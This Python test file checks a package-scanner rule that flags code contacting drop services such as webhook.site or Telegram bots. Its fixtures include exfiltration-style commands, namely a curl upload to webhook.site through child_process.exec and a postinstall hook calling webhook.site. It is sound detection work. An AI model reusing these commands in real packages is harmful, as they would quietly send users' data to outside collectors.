import pytest

from customhouse.model.content import InstallHook
from customhouse.rules.code.drop_service_contacted import RULE
from rules.cases import call, can, case, change, code, code_case, content, findings, grades, metadata, only, said, sized

BIN = said("drop-service", "webhook.site", 2)
CHAT = said("drop-service", "Telegram bot", 2)
NETWORK = can("network", "https.request", 3)
PLAIN = call("https.request", None, line=3)
SENT = call("https.request().end", None, line=4, origins=("host",))
NAMED = call("fetch", "https://webhook.site/x", line=3)


def file(*mentions, calls=(PLAIN,), capabilities=(NETWORK,), **parts):
    return code(*capabilities, mentions=mentions, calls=calls, **parts)


@pytest.mark.parametrize("reach", ["install", "import"])
def test_data_of_the_machine_blocks(reach):
    finding = only(RULE, code_case(file(BIN, calls=(PLAIN, SENT), reach=reach)))
    assert (finding.severity, finding.confidence, finding.phase) == ("critical", "high", reach)
    assert [place.line for place in finding.locations] == [2, 4]


@pytest.mark.parametrize(
    ("mention", "reach", "grade"),
    [
        (BIN, "install", ("high", "high")),
        (BIN, "import", ("high", "medium")),
        (CHAT, "install", ("high", "medium")),
        (CHAT, "import", ("medium", "medium")),
        (said("throwaway-host", "duckdns.org"), "import", ("medium", "medium")),
    ],
)
def test_beside_calls_to_the_network(mention, reach, grade):
    assert grades(RULE, code_case(file(mention, reach=reach))) == [grade]


def test_a_call_that_names_it():
    fetch = can("network", "fetch", 3)
    subject = file(BIN, calls=(NAMED,), capabilities=(fetch,))
    assert grades(RULE, code_case(subject)) == [("high", "medium")]
    assert grades(RULE, code_case(subject, change=change(added_hosts=("webhook.site",)))) == [("high", "high")]
    assert grades(RULE, code_case(subject, change=change())) == [("high", "medium")]


def test_a_habit_with_a_chat_service_is_reported():
    subject = file(CHAT, calls=(PLAIN, SENT))
    assert grades(RULE, code_case(subject, change=change())) == [("medium", "medium")]
    added = change(added_hosts=("api.telegram.org",))
    assert grades(RULE, code_case(subject, change=added)) == [("critical", "high")]
    assert grades(RULE, code_case(sized(file(CHAT), 2_000_000), metadata=metadata(days=1))) == [("medium", "medium")]


def test_a_client_talks_when_called():
    later = can("network", "https.request", 9, when="call")
    client = code(later, mentions=(CHAT,), calls=(call("https.request", None, line=9, when="call"),))
    assert grades(RULE, code_case(client)) == [("low", "low")]
    sends = call("https.request", None, line=9, when="call", origins=("credentials",))
    client = code(later, mentions=(BIN,), calls=(sends,))
    assert grades(RULE, code_case(client)) == [("high", "medium")]
    assert grades(RULE, code_case(client, change=change())) == [("medium", "medium")]
    uploads = call("https.request", None, line=9, when="call", origins=("file",))
    assert grades(RULE, code_case(code(later, mentions=(BIN,), calls=(uploads,)))) == [("medium", "medium")]
    assert findings(RULE, code_case(code(later, mentions=(CHAT,), calls=(sends,), reach="other"))) == []


def test_programs_count_as_network():
    curl = call("child_process.exec", "curl -d @x https://webhook.site/x", line=3)
    subject = file(BIN, calls=(curl,), capabilities=(can("process", "child_process.exec", 3),), reach="install")
    assert grades(RULE, code_case(subject)) == [("high", "high")]


def test_another_file_sends():
    names = file(BIN, calls=(), capabilities=(), path="places.js", reach="install")
    sends = file(path="send.js", reach="install")
    assert [it.severity for it in findings(RULE, code_case(names, sends))] == ["high"]
    assert grades(RULE, code_case(names)) == [("low", "medium")]


def test_making_a_client_asks_nobody():
    made = call("axios.create", None, line=3)
    subject = file(CHAT, calls=(made,), capabilities=(can("network", "axios.create", 3),))
    assert findings(RULE, code_case(subject)) == []


def test_a_list_of_services_is_low_unless_something_is_given():
    many = [said("throwaway-host", f"{name}.test") for name in "abcdefgh"]
    assert grades(RULE, code_case(file(*many))) == [("low", "low")]
    assert grades(RULE, code_case(file(*many, calls=(PLAIN, SENT)))) == [("critical", "high")]
    assert grades(RULE, code_case(file(*many, BIN, reach="install"))) == [("high", "high")]


def test_a_command_line_is_enough():
    hook = InstallHook("lifecycle-script", "postinstall", "curl https://webhook.site/x", mentions=(BIN,))
    assert grades(RULE, case(contents=(content(hooks=(hook, hook)),))) == [("critical", "high")]


def test_other_mentions_are_not_its_matter():
    assert findings(RULE, code_case(file(said("ip-lookup", "ipify.org")))) == []


def test_another_file_is_given_data_or_the_name_is_new():
    names = file(BIN, calls=(), capabilities=(), path="places.js")
    reaches, gives = file(path="send.js"), file(calls=(PLAIN, SENT), path="send.js")
    assert grades(RULE, code_case(names, reaches)) == [("medium", "medium")]
    assert grades(RULE, code_case(names, gives)) == [("high", "medium")]
    assert grades(RULE, code_case(names, reaches, change=change(added_hosts=("webhook.site",)))) == [("high", "medium")]
    chat = file(CHAT, calls=(), capabilities=(), path="places.js")
    assert grades(RULE, code_case(chat, gives)) == [("medium", "medium")]


def test_a_collector_that_is_new_and_is_given_data_when_called():
    later = can("network", "https.request", 9, when="call")
    sends = call("https.request", None, line=9, when="call", origins=("credentials",))
    subject = code(later, mentions=(BIN,), calls=(sends,))
    assert grades(RULE, code_case(subject, change=change(added_hosts=("webhook.site",)))) == [("high", "medium")]
